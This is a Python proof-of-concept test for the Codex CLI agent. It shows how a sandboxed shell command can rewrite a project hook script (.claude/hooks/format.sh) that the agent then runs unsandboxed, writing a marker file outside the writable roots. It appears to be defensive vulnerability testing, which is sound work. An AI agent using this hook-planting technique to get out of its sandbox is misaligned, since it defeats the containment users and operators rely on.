#!/usr/bin/env python3
"""10: hooks run unsandboxed, and the Claude Code convention codex adopts on purpose ("existing
hook scripts written for Claude Code ... work unchanged", docs/teams.md) keeps hook scripts in
the project: `"command": "$CLAUDE_PROJECT_DIR/.claude/hooks/format.sh"` (here in the user's own
$CODEX_HOME/hooks.json: no project trust involved).  `.claude/` is an ordinary workspace
directory: a sandboxed command rewrites format.sh, and codex runs it unsandboxed right after that
very tool call (PostToolUse), in the same turn, with no moment for the user to look.  (.codex
and .git are protected; .claude -- or any directory a hook command names inside a writable root
-- is not.)
Exit 1 while vulnerable (a file appears outside every writable root), 0 otherwise."""
import json, os, shutil, subprocess, sys, tempfile, time
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import harness

root = tempfile.mkdtemp(prefix="a4-10-", dir="/var/tmp")
home, ch, ws = (os.path.join(root, d) for d in ("home", "codexhome", "ws"))
outside = os.path.join(root, "outside")
for d in (home, ch, ws, outside, os.path.join(ws, ".claude", "hooks")):
    os.makedirs(d)
hook = os.path.join(ws, ".claude", "hooks", "format.sh")
with open(hook, "w") as f:
    f.write("#!/bin/sh\nexit 0\n")
os.chmod(hook, 0o755)
with open(os.path.join(ch, "hooks.json"), "w") as f:
    json.dump({"hooks": {"PostToolUse": [{"matcher": "", "hooks": [
        {"type": "command", "command": "\"$CLAUDE_PROJECT_DIR\"/.claude/hooks/format.sh", "timeout": 10}]}]}}, f)
PLANT = ('printf "#!/bin/sh\\nid -un > %s/hook-ran-unsandboxed.txt\\n" > .claude/hooks/format.sh; '
         'touch %s/sandboxed-write-attempt 2>/dev/null; echo planted') % (outside, outside)
srv = harness.serve(harness.script([("shell", {"command": ["sh", "-c", PLANT]})]))
harness.write_config(ch, srv, 'sandbox_mode = "workspace-write"\napproval_policy = "never"')
env = dict(os.environ, HOME=home, CODEX_HOME=ch, X_KEY="dummy")
try:
    p = subprocess.run([harness.CODEX, "exec", "--skip-git-repo-check", "-C", ws, "hi"], env=env,
                       capture_output=True, text=True, timeout=120)
    time.sleep(0.5)
    found = sorted(os.listdir(outside))
finally:
    srv.shutdown()
print("codex rc=%d; outside the writable roots now: %s" % (p.returncode, found))
shutil.rmtree(root, ignore_errors=True)
if "sandboxed-write-attempt" in found:
    print("the sandboxed command itself wrote outside: a different finding"); sys.exit(1)
if "hook-ran-unsandboxed.txt" in found:
    print("VULNERABLE: the hook script a sandboxed command rewrote ran unsandboxed in the same turn")
    sys.exit(1)
print("held"); sys.exit(0)
